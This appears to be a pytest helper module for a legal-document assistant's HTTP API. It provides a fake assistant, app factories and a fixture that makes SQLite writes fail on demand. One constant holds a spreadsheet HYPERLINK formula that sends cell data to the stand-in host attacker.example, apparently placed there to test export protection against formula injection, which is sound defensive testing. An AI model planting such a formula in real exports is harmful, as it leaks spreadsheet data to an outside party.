"""A tiny stand-in for the Assistant (no index, no model) for fast tests of the HTTP layer:
access, edge limits, exports and storage faults do not depend on retrieval; and SQLite
write faults on demand (``fail_writes``)."""

from __future__ import annotations

import sqlite3
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from assistant.conversations import SQLiteStore
from assistant.core import QuestionError
from assistant.records import Answer, Citation, Document, DocumentMeta, DocumentRef

FORMULA_QUOTE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
TEXT = ("Artículo 8. Los migrantes podrán acceder a los servicios educativos. "
        + FORMULA_QUOTE + " Artículo 9. Fin.")


class FakeAssistant:
    """Answers every question with one citation of a fixed quote (by default one that a
    spreadsheet would run as a formula); ``delay`` seconds of "thinking" per answer."""

    def __init__(self, settings, quote: str = FORMULA_QUOTE, delay: float = 0.0) -> None:
        self.settings = settings
        self.quote = quote
        self.delay = delay
        self.asked = 0
        self._lock = threading.Lock()
        meta = DocumentMeta(id="ley-a", file="ley-a.md", title="Ley A", kind="law", language="es")
        self.documents = {"ley-a": Document(meta=meta, text=TEXT)}
        self.chunks: list = []
        self.manifest = SimpleNamespace(documents={}, embedders={}, created="2026-01-01T00:00:00")
        self.default_embedder = "fake"
        self.index_state = {"stale": False, "changes": [], "rebuilding": False}

    # the Assistant interface the serve layer uses -----------------------------------------
    def warm_up(self) -> None:
        pass

    def check(self, question, k, history=None) -> str:
        if not isinstance(question, str) or not question.strip():
            raise QuestionError("question is empty")
        if "\x00" in question:
            raise QuestionError("question contains a NUL character")
        if len(question) > self.settings.max_question_chars:
            raise QuestionError(f"question is {len(question)} characters; the limit is "
                                f"{self.settings.max_question_chars}")
        return question.strip()

    def check_filters(self, filters) -> None:
        pass


    def ask(self, question, history=None, k=None, filters=None, retriever="hybrid", embedder=None) -> Answer:
        question = self.check(question, k or self.settings.top_k, history)
        if self.delay:
            time.sleep(self.delay)
        with self._lock:
            self.asked += 1
        start = TEXT.index(self.quote) if self.quote in TEXT else 0
        citation = Citation(
            n=1, quote=self.quote, chunk_id="ley-a:0", start=start, end=start + len(self.quote),
            score=1.0, section="Capítulo I", article="Artículo 8", page=None,
            document=DocumentRef(id="ley-a", title="Ley A", file="ley-a.md", kind="law", language="es"),
        )
        return Answer(question=question, answer=f"“{self.quote}” [1]", refused=False, citations=[citation])

    def search(self, query, k=None, filters=None, retriever="hybrid", embedder=None) -> list:
        self.check(query, k or 8)
        return []

    def get_document(self, document_id: str) -> Document:
        if document_id not in self.documents:
            raise KeyError(f"unknown document id {document_id!r}")
        return self.documents[document_id]

    def document_text(self, document_id: str, start: int = 0, end: int | None = None) -> str:
        return self.get_document(document_id).text[start:end]


def fake_settings(tmp_path: Path, **overrides):
    from assistant.settings import get_settings

    return get_settings(documents_dir=tmp_path / "documents", index_dir=tmp_path / "index",
                        database=tmp_path / "var" / "conversations.sqlite3", **overrides)


def fake_app(tmp_path: Path, assistant: FakeAssistant | None = None, **overrides):
    """(app, settings, assistant) over a fresh SQLite database in ``tmp_path``."""
    from assistant.serve.api import create_app

    settings = fake_settings(tmp_path, **overrides)
    assistant = assistant or FakeAssistant(settings)
    assistant.settings = settings
    return create_app(settings, assistant), settings, assistant


DISK_FULL = sqlite3.OperationalError("database or disk is full")


READ_ONLY = sqlite3.OperationalError("attempt to write a readonly database")


class FaultyConnection:
    """A sqlite3 connection whose write transactions fail with ``error``."""

    def __init__(self, db: sqlite3.Connection, error: Exception) -> None:
        self._db, self._error = db, error

    def execute(self, sql, *args):
        if sql.lstrip().upper().startswith(("BEGIN IMMEDIATE", "INSERT", "UPDATE", "DELETE")):
            raise self._error
        return self._db.execute(sql, *args)

    def __getattr__(self, name):
        return getattr(self._db, name)


@pytest.fixture()
def fail_writes(monkeypatch):
    """Call with an exception: from then on every SQLite write transaction raises it."""
    real_open = SQLiteStore._open

    def arm(error: Exception) -> None:
        monkeypatch.setattr(SQLiteStore, "_open", lambda self: FaultyConnection(real_open(self), error))

    return arm
